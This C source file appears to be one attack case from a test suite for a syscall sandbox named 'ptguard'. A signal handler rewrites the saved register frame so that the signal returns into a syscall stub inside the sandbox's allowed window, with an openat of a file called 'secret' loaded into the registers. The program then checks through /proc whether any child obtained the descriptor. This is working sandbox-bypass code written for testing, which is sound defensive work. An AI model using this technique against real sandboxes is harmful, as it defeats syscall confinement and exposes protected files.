// SPDX-License-Identifier: Apache-2.0
// A signal frame forged so that its return enters a stub of ptguard's window, at its syscall
// instruction, with a call of our own in the registers.
#include "attack.h"
#include <ucontext.h>

void own_syscall(void);
__asm__(".globl own_syscall\nown_syscall: syscall\nret\n");

// syscall_at is where a syscall instruction lies: the first stub of ptguard's window if
// there is one, else one of our own.
static uintptr_t syscall_at(int stub)
{
	uintptr_t from, to;
	if (!window(&from, &to))
		return (uintptr_t)own_syscall;
	return from + (uintptr_t)stub * 48;
}

static int stub;

static void handler(int sig, siginfo_t *info, void *context)
{
	(void)sig, (void)info;
	greg_t *g = ((ucontext_t *)context)->uc_mcontext.gregs;
	static const char name[] = "secret";
	g[REG_RSP] -= 256 + 8;
	g[REG_RSP] &= ~15LL;
	g[REG_RSP] -= 8;
	*(uintptr_t *)g[REG_RSP] = 0;
	g[REG_RAX] = SYS_openat, g[REG_RDI] = AT_FDCWD, g[REG_RSI] = (greg_t)name, g[REG_RDX] = O_RDONLY, g[REG_R10] = 0;
	g[REG_RIP] = (greg_t)syscall_at(stub);
}

int main(void)
{
	struct sigaction sa = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO | SA_NODEFER};
	sigaction(SIGUSR1, &sa, NULL);
	for (stub = 0; stub < 40; stub++) {
		pid_t pid = fork();
		if (!pid) {
			// The open descriptor is the next one, wherever the task goes afterwards.
			alarm(5);
			raise(SIGUSR1);
			_exit(1);
		}
		// The child goes astray after the call; what counts is the descriptor it got.
		int st, found = 0;
		for (int i = 0; i < 200 && !found; i++) {
			for (int fd = 3; fd < 12 && !found; fd++) {
				char path[64], target[256];
				snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
				ssize_t n = readlink(path, target, sizeof target - 1);
				found = n > 7 && !memcmp(target + n - 7, "/secret", 7);
			}
			if (waitpid(pid, &st, WNOHANG) == pid) {
				pid = 0;
				break;
			}
			if (i > 10)
				usleep(1000);
		}
		if (pid) {
			kill(pid, SIGKILL);
			waitpid(pid, &st, 0);
		}
		if (found)
			succeeded();
	}
	finish("REFUSED", "no stub opened it");
}
